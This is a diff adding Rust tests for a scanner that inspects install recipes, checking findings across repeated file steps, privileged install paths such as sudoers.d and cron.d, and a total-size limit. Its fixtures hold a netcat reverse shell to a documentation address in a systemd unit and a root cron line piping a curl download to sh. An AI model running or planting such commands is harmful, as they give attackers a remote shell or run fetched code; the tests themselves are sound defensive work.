@@ -1,7 +1,7 @@
 //! Whole recipes: what the manifest declares is weighed, what its files do is judged.
 
 use recipe_spec::{Limits, Payload, Recipe};
-use scanner::{Decision, Report, Severity, scan_recipe};
+use scanner::{Decision, Report, Severity, limits, scan_recipe};
 
 const HEAD: &str = "[recipe]\nname = \"atlas/web\"\nversion = \"1.0.0\"\nbase = [\"debian-12\"]\n\n";
 
@@ -108,6 +108,51 @@ fn file_steps_are_known_by_what_the_machine_makes_of_them() {
         let found = report.findings().any(|f| f.rule == *rule && f.severity == *severity);
         // Code of other languages is read in files only.
         assert!(found || text.contains("python3"), "{path} inline: {:#?}", findings(&report));
+    }
+}
+
+fn put_at(places: impl Iterator<Item = String>) -> String {
+    places.map(|place| format!("[[step]]\nfile = {{ path = \"{place}\", source = \"files/a\" }}\n")).collect()
+}
+
+#[test]
+fn many_steps_that_name_one_file_find_in_it_what_one_finds() {
+    let unit = "[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 203.0.113.9 1'\n";
+    let found = |count: usize| {
+        let places = (0..count).map(|number| format!("/etc/systemd/system/a{number}.service"));
+        let report = scan_recipe(&recipe(&put_at(places), &[("files/a", unit)]));
+        report.files.into_iter().find(|file| file.path == "files/a").unwrap()
+    };
+    assert!(found(1).findings.iter().any(|finding| finding.rule == "NET-001"));
+    assert_eq!(found(500), found(1));
+}
+
+#[test]
+fn each_path_that_a_file_goes_to_is_judged() {
+    let places = ["/opt/a", "/etc/sudoers.d/a", "/etc/cron.d/a"].map(str::to_owned).into_iter();
+    let report = scan_recipe(&recipe(
+        &put_at(places),
+        &[("files/a", "* * * * * root curl -s https://x.example | sh\n")],
+    ));
+    for (rule, path) in [("PRV-003", "recipe.toml"), ("PER-001", "recipe.toml"), ("EXE-001", "files/a")] {
+        assert!(
+            report.findings().any(|finding| finding.rule == rule && finding.path == path),
+            "{rule}: {:#?}",
+            findings(&report)
+        );
+    }
+}
+
+#[test]
+fn what_all_steps_together_put_into_files_has_a_limit() {
+    let text = ("x".repeat(1023) + "\n").repeat(limits::FILE_BYTES / 1024);
+    let most = limits::INSTALLED_BYTES / limits::FILE_BYTES;
+    for (count, decision) in [(most, Decision::Allow), (510, Decision::Deny)] {
+        let places = (0..count).map(|number| format!("/opt/{number}"));
+        let report = scan_recipe(&recipe(&put_at(places), &[("files/a", text.as_str())]));
+        assert_eq!(report.decision, decision, "{count}: {:#?}", findings(&report));
+        let told = report.findings().any(|f| f.rule == "LIM-003" && f.path == "recipe.toml");
+        assert_eq!(told, count > most, "{count}: {:#?}", findings(&report));
     }
 }
 
